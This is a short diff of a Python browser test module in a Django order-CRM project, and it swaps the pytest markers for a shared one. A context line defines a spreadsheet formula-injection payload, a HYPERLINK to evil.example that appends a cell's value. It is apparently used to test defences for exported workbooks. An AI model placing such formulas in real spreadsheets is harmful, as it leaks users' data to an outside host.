@@ -12,18 +12,10 @@ from openpyxl import load_workbook
 
 from ordercrm.accounts.roles import Role
 from ordercrm.sales import services as sales
-from tests.browser import test_order_flow as flow
-from tests.browser.test_order_flow import CHROMIUM, login, shot
+from tests.browser.conftest import WALK
+from tests.browser.test_order_flow import login, shot
 
-browser = flow.browser
-
-pytestmark = [
-    pytest.mark.browser,
-    pytest.mark.django_db(transaction=True),
-    pytest.mark.skipif(
-        not __import__("shutil").which(CHROMIUM), reason=f"no Chromium at {CHROMIUM}"
-    ),
-]
+pytestmark = WALK
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 CASES = [("en", {"width": 1280, "height": 900}), ("zh-hans", {"width": 375, "height": 740})]
